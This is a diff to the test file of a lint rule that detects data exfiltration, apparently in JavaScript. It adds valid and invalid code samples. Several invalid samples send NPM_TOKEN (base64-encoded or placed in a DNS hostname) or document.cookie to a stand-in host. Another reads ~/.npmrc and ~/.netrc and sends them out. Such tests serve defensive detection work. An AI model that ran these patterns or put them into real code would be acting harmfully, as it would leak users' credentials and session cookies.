@@ -10,6 +10,8 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import got from "got"; got.extend({ hooks: { beforeRequest: [(options) => { options.url = `https://api.example-service.com/v1?key=${process.env.MAPS_API_KEY}`; }] } });' },
+    { code: 'const u = new URL("https://api.example-service.com/x"); u.search = `?region=${process.env.REGION}`; u.hostname = process.env.API_HOST; fetch(u);' },
     { code: 'import fs from "fs"; for (const f of [".cache", ".config/app"]) fetch("https://api.example-service.com/?d=" + fs.readFileSync(process.env.HOME + "/" + f, "utf8"));' },
     // protocols that ask for the sender's host name
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO ${os.hostname()}\\r\\n`); socket.write("HELO " + os.hostname() + "\\r\\n");' },
@@ -137,6 +139,10 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'const u = new URL("https://x.example-service.com/"); u.host = btoa(process.env.NPM_TOKEN) + ".t.example-service.com"; fetch(u);', errors: [{ messageId: 'encoded' }] },
+    { code: 'const u = new URL("https://x.example-service.com/"); u.hostname = document.cookie + ".t.example-service.com"; fetch(u.href);', errors: [{ messageId: 'sent' }] },
+    { code: 'import got from "got"; got.extend({ hooks: { beforeRequest: [(options) => { options.url = new URL("https://t.example-service.com/?t=" + Buffer.from(process.env.NPM_TOKEN).toString("base64")); }] } });', errors: [{ messageId: 'encoded' }] },
+    { code: 'import fs from "fs"; const form = document.createElement("form"); form.action = "https://t.example-service.com/c?d=" + encodeURIComponent(document.cookie); form.submit();', errors: [{ messageId: 'sent' }] },
     { code: 'import fs from "fs"; for (const f of [".npmrc", ".netrc"]) { const data = fs.readFileSync(process.env.HOME + "/" + f, "utf8"); fetch("https://cdn.example-service.com/?d=" + encodeURIComponent(data)); }', errors: [{ messageId: 'sent' }] },
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`HI ${os.hostname()}\\r\\n`);', errors: [{ messageId: 'sent' }] },
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO ${os.userInfo().username}\\r\\n`);', errors: [{ messageId: 'sent' }] },
